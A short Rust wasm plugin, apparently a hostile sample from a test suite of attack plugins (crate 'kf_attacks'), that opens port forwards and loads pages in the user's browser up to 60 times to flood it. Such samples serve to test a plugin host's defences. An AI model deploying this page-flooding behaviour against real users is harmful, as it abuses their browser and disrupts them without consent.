//! Opens as many pages as possible in the user's browser.

#![cfg(target_arch = "wasm32")]

use kf_attacks::plugin::sessions::{self, Port};
use kf_attacks::{Answer, attack};

attack!(run);

/// Counts the pages that were opened.
fn run(_: Vec<String>) -> Answer {
    let mut shown = 0;
    while shown < 60 {
        let forward = sessions::open_port_forward(None, "web", &[Port { local: 0, remote: 80 }])?;
        if forward.open_page("/").is_err() {
            break;
        }
        shown += 1;
    }
    Ok(shown)
}
